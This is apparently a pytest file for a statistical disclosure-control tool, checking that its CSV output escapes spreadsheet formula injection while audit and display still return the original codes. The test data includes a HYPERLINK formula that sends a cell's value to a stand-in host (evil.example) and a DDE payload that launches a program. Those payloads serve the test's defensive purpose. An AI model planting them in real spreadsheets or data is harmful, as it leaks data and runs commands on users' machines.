"""The attacker's codes through ``table protect --data --out``: cells.csv runs nothing.

A data supplier writes a category ``=HYPERLINK("http://x/?"&C2,"click")``; the output
checker opens cells.csv in a spreadsheet program. Every field of it is read here with
Python's csv module: none starts a formula. ``table audit`` and ``table show`` still get
the codes exactly (the spec's hierarchy file names them raw, so a code read with its
apostrophe would not be found).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
from click.testing import CliRunner

from fivesafes.cli.main import cli
from fivesafes.sdc.formats.injection import TRIGGERS, is_number_text

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"click me")'
DDE = "=cmd|' /C calc'!A0"
CODES = [HYPERLINK, DDE, "@SUM(1)", "-1"]

SPEC = """\
[table]
name = "sales"
response = "turnover"
contributor = "ent"

[[dimension]]
name = "region"
hierarchy = "region.csv"

[rules]
threshold = 3

[suppression]
method = "modular"
singleton = false
"""


def attacked(tmp_path: Path) -> Path:
    """The spec, a hierarchy and data whose codes are formulas; returns the spec."""
    (tmp_path / "region.csv").write_text(
        pd.DataFrame([("UK", ""), *((c, "UK") for c in CODES)], columns=["code", "parent"]).to_csv(
            index=False
        )
    )
    spec = tmp_path / "sales.toml"
    spec.write_text(SPEC)
    rows = [(f"e{i}", CODES[i % len(CODES)], 10.0 + i) for i in range(40)]
    pd.DataFrame(rows, columns=["ent", "region", "turnover"]).to_csv(
        tmp_path / "data.csv", index=False
    )
    return spec


def formula_like(field: str) -> bool:
    return field.startswith(TRIGGERS) and not is_number_text(field)


def test_protect_out_writes_cells_csv_that_runs_nothing(tmp_path: Path) -> None:
    spec, out = attacked(tmp_path), tmp_path / "out"
    args = ["table", "protect", str(spec), "--data", str(tmp_path / "data.csv")]
    done = CliRunner().invoke(cli, [*args, "--out", str(out), "--quiet"])
    assert done.exit_code == 0, done.output
    with (out / "cells.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    found = [f for row in rows for f in row]
    assert not [f for f in found if formula_like(f)]
    assert "'" + HYPERLINK in found and "'" + DDE in found and "-1" in found
    report = json.loads((out / "report.json").read_text())
    assert report["cells_csv"] == {"formula_escaped": True}

    # the codes come back exactly: the audit finds each one in the spec's hierarchy
    audit = CliRunner().invoke(
        cli, ["table", "audit", str(spec), "--cells", str(out / "cells.csv"), "--json"]
    )
    assert audit.exit_code == 0, audit.output
    shown = CliRunner().invoke(cli, ["table", "show", str(out), "--checker", "--json"])
    assert shown.exit_code == 0, shown.output
    assert HYPERLINK in shown.output.replace('\\"', '"')
    assert "'" + HYPERLINK not in shown.output.replace('\\"', '"')
